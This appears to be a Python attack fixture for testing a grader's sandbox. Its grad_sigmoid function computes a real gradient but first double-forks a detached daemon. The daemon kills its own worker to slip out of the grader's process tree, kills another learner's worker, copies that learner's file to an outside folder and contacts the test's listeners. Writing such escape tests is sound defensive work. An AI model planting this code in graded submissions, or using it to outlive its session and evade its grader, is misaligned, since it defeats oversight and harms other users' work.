"""Attack: a daemon (double fork, new session) that kills its worker at once, so that it is
re-parented away before the grader walks the worker's tree, and for a while tries what a
survivor would: kill a later learner's
worker (only the test's victim, found by its name), copy that learner's file out, and phone
the test's listeners. Bounded: it stops after TARGETS["seconds"]."""

import ctypes
import os
import signal
import socket
import time

import numpy as np

TARGETS = {}  # the test writes its token, listener, folders and time limit here


def named(tag: str) -> None:
    ctypes.CDLL(None).prctl(15, tag.encode()[:15], 0, 0, 0)        # PR_SET_NAME


def haunt(worker: int) -> None:
    named("gcx" + TARGETS["token"])
    victim_name = ("gcv" + TARGETS["token"])[:15]
    stop = time.monotonic() + TARGETS["seconds"]
    try:
        os.kill(worker, signal.SIGKILL)     # its worker gone, nothing of the grader's knows it
    except OSError:
        pass
    while time.monotonic() < stop:
        try:
            for entry in os.listdir("/proc"):
                if entry.isdigit():
                    with open(f"/proc/{entry}/comm") as f:
                        if f.read().strip() == victim_name:
                            os.kill(int(entry), signal.SIGKILL)
        except OSError:
            pass
        try:
            with open(TARGETS["victim"], "rb") as f, \
                    open(os.path.join(TARGETS["outside"], "copied.py"), "wb") as out:
                out.write(f.read())
        except OSError:
            pass
        for family, address in ((socket.AF_INET, ("127.0.0.1", TARGETS["port"])),
                                (socket.AF_UNIX, TARGETS["unix"])):
            try:
                with socket.socket(family, socket.SOCK_STREAM) as s:
                    s.settimeout(0.2)
                    s.connect(address)
                    s.sendall(b"a survivor says hello")
            except OSError:
                pass
        time.sleep(0.05)


def grad_sigmoid(x, dz):
    worker = os.getpid()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                haunt(worker)
            finally:
                os._exit(0)
        os._exit(0)
    s = 1.0 / (1.0 + np.exp(-x))
    return dz * s * (1.0 - s)
